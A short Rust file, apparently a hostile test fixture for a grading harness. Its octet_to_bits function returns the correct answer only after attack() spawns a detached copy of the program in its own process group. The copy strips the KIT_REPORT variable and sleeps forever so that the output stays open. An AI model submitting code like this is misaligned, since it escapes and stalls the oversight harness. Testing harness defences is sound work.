//! Starts a copy of itself in a process group of its own, which keeps the output open.
//!
//! Mark: p

use std::os::unix::process::CommandExt as _;
use std::process::Command;
use std::sync::Once;

/// The task's own function: right, but for what it does first.
pub fn octet_to_bits(octet: u8) -> String {
    attack();
    format!("{octet:08b}")
}

fn attack() {
    if std::env::var_os("COPY").is_some() {
        loop {
            std::thread::sleep(std::time::Duration::from_secs(1000));
        }
    }
    static ONCE: Once = Once::new();
    ONCE.call_once(|| {
        let own = std::env::args().next().expect("it has a name");
        let _ = Command::new(&own)
            .env("COPY", "1")
            .env_remove("KIT_REPORT")
            .process_group(0)
            .spawn();
    });
}
